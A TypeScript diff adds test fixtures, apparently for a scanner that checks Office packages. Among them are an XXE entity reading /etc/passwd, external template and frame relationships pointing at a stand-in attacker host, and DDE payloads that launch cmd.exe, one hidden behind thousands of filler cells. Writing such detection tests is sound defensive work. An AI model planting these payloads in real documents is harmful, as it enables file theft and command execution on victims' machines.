@@ -5,6 +5,9 @@ import { all } from './made.ts'
 
 const bomb = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576)
 
+const outside = (type: string) =>
+  `<Relationships><Relationship Id="r1" Target="https://jahat.id/a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" TargetMode="External"/></Relationships>`
+
 /** Office files, new and old: with programs, with lies about their parts, and bombs. */
 export const packages = () => {
   const both = (tries: string, extra: Parameters<typeof zip>[0]) =>
@@ -28,6 +31,42 @@ export const packages = () => {
     ]),
     ...both('package with a lock', [{ name: 'rahasia.xml', bytes: 'x', encrypted: true }]),
     ...both('package that lies about a size', [{ name: 'a.xml', bytes: 'abc', saysSize: 70_000 }]),
+    ...both('package with entities', [
+      { name: 'a.xml', bytes: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
+    ]),
+    ...both('package with entities in letters of two bytes', [
+      { name: 'a.xml', bytes: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY x "y">]><a/>', 'utf16le') },
+    ]),
+    ...both('package that fetches a template', [
+      { name: 'word/_rels/settings.xml.rels', bytes: outside('attachedTemplate') },
+    ]),
+    ...both('package that fetches a frame', [
+      { name: 'word/_rels/document.xml.rels', bytes: outside('frame') },
+    ]),
+    ...both('package that starts a program', [
+      {
+        name: 'xl/worksheets/sheet2.xml',
+        bytes: `<worksheet><c><f>cmd|'/c calc'!A1</f></c></worksheet>`,
+      },
+    ]),
+    ...both('package that starts a program far behind', [
+      {
+        name: 'xl/worksheets/sheet3.xml',
+        bytes: `${'<c><v>1</v></c>'.repeat(9_000)}<c><f>cmd|'/c calc'!A1</f></c>`,
+      },
+    ]),
+    ...both('package linked to a program', [
+      {
+        name: 'xl/externalLinks/externalLink1.xml',
+        bytes: '<externalLink><ddeLink/></externalLink>',
+      },
+    ]),
+    ...both('package with a field that starts a program', [
+      {
+        name: 'word/footer1.xml',
+        bytes: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>',
+      },
+    ]),
     ...both('bomb', [{ name: 'xl/sharedStrings.xml', bytes: bomb(80) }]),
     ...both('bomb that says it is small', [{ name: 'a.xml', bytes: bomb(80), saysSize: 100 }]),
     ...both(
